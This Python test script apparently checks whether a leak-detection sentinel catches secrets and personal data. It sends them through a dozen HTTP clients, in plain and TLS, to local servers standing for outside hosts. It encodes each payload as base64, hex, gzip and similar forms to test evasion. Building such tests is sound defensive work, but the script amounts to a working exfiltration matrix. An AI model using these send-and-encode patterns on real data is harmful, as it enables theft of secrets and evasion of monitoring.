# Sends secrets and personal data through the clients that are installed, to a server in this process that stands for
# hosts elsewhere, in plain and through TLS; prints one JSON row for each cell: what it was, and whether it arrived.
#     leaks.py CERTIFICATE CLIENTS ENCODINGS      (names between commas; `CERTIFICATE` holds the key, too)

import asyncio
import base64
import gzip
import http.client
import json
import os
import socket
import ssl
import sys
import threading
import urllib.parse
import urllib.request
import zlib

certificate, clients, encodings = sys.argv[1], sys.argv[2].split(','), sys.argv[3].split(',')
arrived = []


def answer(connection, context):
    seen = b''
    try:
        if context is not None:
            connection = context.wrap_socket(connection, server_side=True)
        connection.settimeout(5)
        while True:
            part = connection.recv(1 << 16)
            if not part:
                break
            seen += part
            head, end, body = seen.partition(b'\r\n\r\n')
            length = [line[15:] for line in head.lower().split(b'\r\n') if line[:15] == b'content-length:']
            if end and (len(body) >= int(length[0]) if length else body.endswith(b'0\r\n\r\n')):
                reply = b'{"id":"1","object":"list","data":[],"choices":[],"model":"m","created":1}'
                connection.sendall(
                    b'HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nConnection: close\r\n'
                    b'Content-Length: %d\r\n\r\n%s' % (len(reply), reply)
                )
                break
    except OSError:
        pass
    arrived.append(seen.partition(b'\r\n\r\n')[2] if seen.startswith(b'POST ') else seen)
    connection.close()


def serve(context):
    server = socket.socket()
    server.bind(('127.0.0.1', 0))
    server.listen(64)

    def accept():
        while True:
            threading.Thread(target=answer, args=(server.accept()[0], context), daemon=True).start()

    threading.Thread(target=accept, daemon=True).start()
    return server.getsockname()[1]


trusting = ssl.create_default_context(cafile=certificate)
trusting.check_hostname = False
own = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
own.load_cert_chain(certificate)
plain_port, secure_port = serve(None), serve(own)
plain, secure = 'http://127.0.0.1:%d/in' % plain_port, 'https://127.0.0.1:%d/in' % secure_port


def by_urllib(body):
    urllib.request.urlopen(secure, data=body, context=trusting).read()


def by_http_client(body):
    connection = http.client.HTTPSConnection('127.0.0.1', secure_port, context=trusting)
    try:
        connection.request('POST', '/in', body)
        connection.getresponse().read()
    finally:
        connection.close()


def by_ssl(body):
    with trusting.wrap_socket(socket.create_connection(('127.0.0.1', secure_port))) as connection:
        connection.sendall(body)


def by_asyncio_tls(body):
    async def main():
        _, writer = await asyncio.open_connection('127.0.0.1', secure_port, ssl=trusting, server_hostname='127.0.0.1')
        writer.write(body)
        await writer.drain()
        writer.close()
        await writer.wait_closed()

    asyncio.run(main())


def by_requests(body):
    import requests

    requests.post(plain, data=body)


def by_requests_tls(body):
    import requests

    requests.post(secure, data=body, verify=certificate)


def by_urllib3(body):
    import urllib3

    urllib3.PoolManager(ca_certs=certificate, assert_hostname=False).request('POST', secure, body=body, retries=False)


def by_httpx(body):
    import httpx

    httpx.post(plain, content=body)


def by_httpx_tls(body):
    import httpx

    httpx.post(secure, content=body, verify=trusting)


def by_httpx_async(body):
    import httpx

    async def main():
        async with httpx.AsyncClient(verify=trusting) as client:
            await client.post(secure, content=body)

    asyncio.run(main())


def by_aiohttp(body):
    import aiohttp

    async def main():
        async with aiohttp.ClientSession() as session:
            async with session.post(plain, data=body) as response:
                await response.read()

    asyncio.run(main())


def by_aiohttp_tls(body):
    import aiohttp

    async def main():
        async with aiohttp.ClientSession() as session:
            async with session.post(secure, data=body, ssl=trusting) as response:
                await response.read()

    asyncio.run(main())


def by_openai(body):
    import openai

    client = openai.OpenAI(base_url=plain[:-3], api_key='not-needed', max_retries=0)
    client.embeddings.create(
        model='m', input=body.decode('latin-1')
    )


PAYLOADS = json.loads(os.environ.pop('PAYLOADS'))
ENCODINGS = {
    'plain': lambda text: text.encode(),
    'base64': lambda text: base64.b64encode(b'it is ' + text.encode() + b' there'),
    'url': lambda text: b'a=' + urllib.parse.quote(text, safe='').encode(),
    'json': lambda text: json.dumps({'text': text}).encode(),
    'hex': lambda text: text.encode().hex().encode(),
    'gzip': lambda text: gzip.compress(text.encode()),
    'deflate': lambda text: zlib.compress(text.encode()),
}

number = 0
for client in clients:
    for encoding in encodings:
        if client == 'openai' and encoding in ('gzip', 'deflate'):
            continue  # it sends text
        for payload, text in PAYLOADS.items():
            host = 'cell-%d.example' % number
            places = ('127.0.0.1', '127.0.0.1:%d' % plain_port, '127.0.0.1:%d' % secure_port)
            os.environ['SENTINEL_STANDS_FOR'] = ','.join('%s=%s' % (place, host) for place in places)
            body = ENCODINGS[encoding](text)
            arrived.clear()
            said = ''
            try:
                globals()['by_' + client](body)
            except Exception as fault:
                while fault is not None:
                    said += str(fault)
                    fault = fault.__cause__ or fault.__context__
            for _ in range(300):
                if arrived:
                    break
                threading.Event().wait(0.01)
            row = {'client': client, 'encoding': encoding, 'payload': payload, 'host': host, 'said': said[:400]}
            print(json.dumps(dict(row, bytes=sum(map(len, arrived)))))
            number += 1
